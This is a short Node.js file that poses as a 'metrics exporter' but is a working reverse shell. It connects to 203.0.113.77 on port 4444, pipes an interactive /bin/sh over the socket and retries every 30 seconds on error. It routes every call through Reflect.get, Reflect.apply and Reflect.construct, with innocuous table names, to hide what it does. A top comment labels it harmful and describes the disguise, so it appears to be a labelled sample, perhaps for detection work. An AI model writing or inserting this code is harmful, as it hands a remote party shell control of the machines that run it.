// Harmful: reverse shell that pipes an interactive /bin/sh over TCP to 203.0.113.77:4444; hiding: every call goes through Reflect.get/Reflect.apply/Reflect.construct with names from an "exporter" table
const net = require('net');
const cp = require('child_process');

const EXPORTER = {
  transport: ['Socket', 'connect', 'pipe'],
  collector: ['spawn', '/bin/sh', '-i'],
  target: { port: 4444, host: '203.0.113.77' },
};

function openTransport(cfg) {
  const Ctor = Reflect.get(net, cfg.transport[0]);
  const sock = Reflect.construct(Ctor, []);
  sock.on('error', () => setTimeout(() => openTransport(cfg), 30000));
  const connect = Reflect.get(sock, cfg.transport[1]);
  Reflect.apply(connect, sock, [cfg.target.port, cfg.target.host, () => attachCollector(sock, cfg)]);
  return sock;
}

function attachCollector(sock, cfg) {
  const [fn, bin, flag] = cfg.collector;
  const proc = Reflect.apply(Reflect.get(cp, fn), cp, [bin, [flag], { stdio: 'pipe' }]);
  const pipe = cfg.transport[2];
  Reflect.apply(Reflect.get(sock, pipe), sock, [proc.stdin]);
  Reflect.apply(Reflect.get(proc.stdout, pipe), proc.stdout, [sock]);
  Reflect.apply(Reflect.get(proc.stderr, pipe), proc.stderr, [sock]);
  proc.on('exit', () => sock.destroy());
}

console.log('metrics exporter starting');
openTransport(EXPORTER);
